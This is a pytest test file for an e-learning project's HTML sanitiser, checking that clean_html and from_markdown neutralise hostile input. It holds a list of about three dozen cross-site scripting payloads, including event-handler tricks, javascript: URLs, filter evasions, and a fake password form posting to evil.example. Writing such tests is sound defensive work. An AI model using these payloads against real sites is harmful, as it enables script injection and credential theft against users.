"""Hostile HTML against the one cleaner."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from elearning.text import TAGS, clean_html, from_markdown, plain

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='x' onclick='alert(1)'>x</a>",
    "<a href='x' style='position:fixed;inset:0'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='evil.swf'></object><embed src='evil.swf'>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<base href='https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<b/onmouseover=alert(1)>x</b>",
    "<a linktype='javascript' id='1'>x</a>",
    "<a linktype='page' id='1 onclick=x'>x</a>",
    "<p>\0<script\0>alert(1)</script></p>",
    "<table><td background='javascript:alert(1)'>x",
    '"><img src=x onerror=alert(1)>',
    "<x" * 500,
]
ALLOWED = re.compile(rf"</?(?:{'|'.join(sorted(TAGS))})(?: (?:href|linktype|id)=\"[^\"<>]*\")*\s*/?>")


def harmless(text: str) -> bool:
    """Whether every tag is one of ours, with our attributes, and no address is active."""
    rest = ALLOWED.sub("", text)
    addresses = re.findall(r'href="([^"]*)"', text)
    active = [a for a in addresses if re.match(r"\s*(javascript|data|vbscript)", a, re.IGNORECASE)]
    return "<" not in rest and not active


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_active_is_left(text):
    cleaned = clean_html(text)
    assert harmless(cleaned)
    assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_active_comes_through_markdown(text):
    assert harmless(from_markdown(f"Before\n\n{text}\n\n[link]({text})"))


def test_the_text_of_a_script_is_no_text():
    assert clean_html("<p>Read <script>alert(1)</script>this</p>") == "<p>Read this</p>"


def test_what_people_need_stays():
    text = '<p>See <a href="https://example.org/a?b=1">this</a>, <b>now</b>.</p><ul><li>é</li><li>مرحبا</li></ul>'
    assert clean_html(text) == text
    assert clean_html('<a linktype="document" id="12">x</a>') == '<a linktype="document" id="12">x</a>'


def test_markdown_becomes_paragraphs_and_lists():
    assert (
        from_markdown("One **two**\n\n- a\n- b")
        == "<p>One <strong>two</strong></p>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>"
    )


def test_plain_gives_the_words_apart():
    assert plain("<ul><li>one</li><li>two &amp; three</li></ul><script>x</script>") == "one two & three"


@given(st.text(alphabet="<>/\"'= abconscript:img&;#x\0é", max_size=60))
def test_no_text_whatever_gets_through(text):
    assert harmless(clean_html(text))
